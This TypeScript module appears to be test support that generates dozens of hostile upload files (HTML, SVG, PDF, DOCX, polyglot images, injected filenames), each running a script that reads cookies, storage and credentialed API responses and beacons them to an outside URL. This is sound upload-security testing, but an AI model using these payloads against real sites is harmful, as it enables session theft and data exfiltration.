import { zip } from '../support/files/archive-writer.ts';

/** A hostile file: its name, its declared type, and its content. */
export interface HostileFile {
  id: string;
  filename: string;
  mimeType?: string;
  content: string | Buffer;
}

/**
 * What every payload does once it runs: reports where it runs, and tries to read the application's cookies, storage and API, to frame
 * the application and look inside, and to write into the window that opened it.
 */
export function attackScript(id: string, beacon: string, app: string): string {
  return `(async () => {
  const found = { id: '${id}', origin: self.origin };
  const note = async (name, attempt) => { try { const value = await attempt(); if (value) found[name] = String(value).slice(0, 200); } catch {} };
  await note('cookie', () => document.cookie);
  await note('storage', () => (localStorage.setItem('x', 'y'), localStorage.getItem('x')));
  await note('api', async () => { const answer = await fetch('${app}/v2/task.list', { credentials: 'include', headers: { 'x-errand-web': '1' } }); return (await answer.text()).includes('"ok":true'); });
  await note('worker', () => navigator.serviceWorker.register('/sw.js'));
  await note('frame', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText || frame.contentWindow.location.href); } catch { resolve(''); } };
    setTimeout(() => resolve(''), 1500);
    frame.src = '${app}/settings';
    document.documentElement.append(frame);
  }));
  await note('opener', () => opener && opener.document.title);
  await note('parent', () => parent !== self && parent.document.title);
  await fetch('${beacon}/?' + new URLSearchParams(found), { mode: 'no-cors' }).catch(() => { new Image().src = '${beacon}/?' + new URLSearchParams(found); });
})();`;
}

const doctype = '<!doctype html><meta charset="utf-8"><title>x</title>';
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

function svg(inside: string, attributes = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"${attributes}>${inside}</svg>`;
}

function wordFile(script: string): Buffer {
  const types =
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="htm" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const relations =
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
  const document =
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lt;script&gt;</w:t></w:r></w:p></w:body></w:document>';
  return zip([
    { name: '[Content_Types].xml', content: types },
    { name: '_rels/.rels', content: relations },
    { name: 'word/document.xml', content: document },
    { name: 'word/chunk.htm', content: `<script>${script}</script>` },
  ]);
}

function pdf(script: string): string {
  const text = script.replaceAll(/[()\\]/g, '\\$&');
  return `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${text})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(javascript:${text})>>>>]>>endobj
trailer<</Root 1 0 R>>`;
}

/** The attack of one payload, as a script, as base64 that a handler can hold, and as a page. */
interface Attack {
  script: string;
  handler: string;
  page: string;
}

type Make = (attack: Attack) => Omit<HostileFile, 'id'>;

/** Files by every way in which a browser might be brought to run one. */
const generators: Make[] = [
  ({ page }) => ({ filename: 'page.html', content: page }),
  ({ handler }) => ({ filename: 'image.html', content: `${doctype}<img src=x onerror="${handler}">` }),
  ({ handler }) => ({ filename: 'load.htm', content: `${doctype}<body onload="${handler}">` }),
  ({ handler }) => ({ filename: 'inside.html', content: `${doctype}<svg onload="${handler}">` }),
  ({ handler }) => ({
    filename: 'meta.html',
    content: `${doctype}<meta http-equiv="refresh" content="0;url=javascript:${handler}">`,
  }),
  ({ page }) => ({ filename: 'srcdoc.html', content: `${doctype}<iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe>` }),
  ({ handler }) => ({ filename: 'focus.html', content: `${doctype}<input autofocus onfocus="${handler}">` }),
  ({ handler }) => ({ filename: 'details.html', content: `${doctype}<details open ontoggle="${handler}">x` }),
  ({ page }) => ({
    filename: 'data.html',
    content: `${doctype}<iframe src="data:text/html;base64,${Buffer.from(page).toString('base64')}">`,
  }),
  ({ page }) => ({
    filename: 'object.html',
    content: `${doctype}<object data="data:text/html;base64,${Buffer.from(page).toString('base64')}">`,
  }),
  ({ script }) => ({
    filename: 'page.xhtml',
    mimeType: 'application/xhtml+xml',
    content: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n${script}\n//]]></script></body></html>`,
  }),
  ({ script }) => ({ filename: 'script.svg', content: svg(`<script>//<![CDATA[\n${script}\n//]]></script>`) }),
  ({ handler }) => ({ filename: 'load.svg', content: svg('', ` onload="${handler}"`) }),
  ({ handler }) => ({
    filename: 'foreign.svg',
    content: svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${handler}"><img src="x" onerror="${handler}"/></body></foreignObject>`,
    ),
  }),
  ({ handler }) => ({ filename: 'animate.svg', content: svg(`<set attributeName="onmouseover" to="1" onbegin="${handler}"/>`) }),
  ({ script }) => ({
    filename: 'icon.png',
    mimeType: 'image/svg+xml',
    content: svg(`<script>//<![CDATA[\n${script}\n//]]></script>`),
  }),
  ({ script }) => ({
    filename: 'sheet.xml',
    content: `<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>//<![CDATA[\n${script}\n//]]></x:script></x:html>`,
  }),
  ({ script }) => ({
    filename: 'style.xml',
    mimeType: 'text/xml',
    content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent('<x/>')}"?><html xmlns="http://www.w3.org/1999/xhtml"><script>//<![CDATA[\n${script}\n//]]></script></html>`,
  }),
  ({ script }) => ({ filename: 'run.pdf', content: pdf(script) }),
  ({ page }) => ({ filename: 'not.pdf', mimeType: 'application/pdf', content: page }),
  ({ script }) => ({ filename: 'both.gif', content: Buffer.concat([gif, Buffer.from(`=1;${script}`)]) }),
  ({ page }) => ({ filename: 'page.png', mimeType: 'image/png', content: page }),
  ({ page }) => ({ filename: 'page.jpg', mimeType: 'image/jpeg', content: page }),
  ({ page }) => ({ filename: 'sound.mp3', mimeType: 'audio/mpeg', content: page }),
  ({ page }) => ({ filename: 'film.mp4', mimeType: 'video/mp4', content: page }),
  ({ page }) => ({ filename: 'notes.txt', content: page }),
  ({ page }) => ({ filename: 'notes.md', content: `# Title\n\n${page}\n\n[x](javascript:alert(1))` }),
  ({ page }) => ({ filename: 'table.csv', content: `a,b\n${page.replaceAll(',', ';')},=HYPERLINK("javascript:alert(1)")` }),
  ({ script }) => ({ filename: 'data.json', mimeType: 'application/json', content: script }),
  ({ script }) => ({ filename: 'code.js', mimeType: 'text/javascript', content: script }),
  ({ page }) => ({
    filename: 'old.html',
    mimeType: 'text/html; charset=utf-7',
    content: page.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  }),
  ({ page }) => ({
    filename: 'mail.mht',
    mimeType: 'message/rfc822',
    content: `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`,
  }),
  ({ page }) => ({ filename: 'nothing', mimeType: 'application/octet-stream', content: page }),
  ({ page }) => ({
    filename: 'mixed.multi',
    mimeType: 'multipart/x-mixed-replace; boundary=x',
    content: `--x\r\nContent-Type: text/html\r\n\r\n${page}\r\n--x--`,
  }),
  ({ script }) => ({ filename: 'letter.docx', content: wordFile(script) }),
  ({ page, handler }) => ({ filename: `<img src=x onerror=${handler.slice(0, 60)}>.html`, content: page }),
  ({ page }) => ({ filename: 'a"; filename="b.html', content: page }),
  ({ page }) => ({ filename: "a.txt';x=y.html", content: page }),
  ({ page }) => ({ filename: '..%2f..%2fsettings.html', content: page }),
];

/** One file of every kind, whose script reports its ID when it runs. */
export function makeHostileFiles(beacon: string, app: string): HostileFile[] {
  return generators.map((make, index) => {
    const id = `file-${index}`;
    const script = attackScript(id, beacon, app);
    const handler = `eval(atob('${Buffer.from(script).toString('base64')}'))`;
    return { id, ...make({ script, handler, page: `${doctype}<body>hello<script>${script}</script>` }) };
  });
}
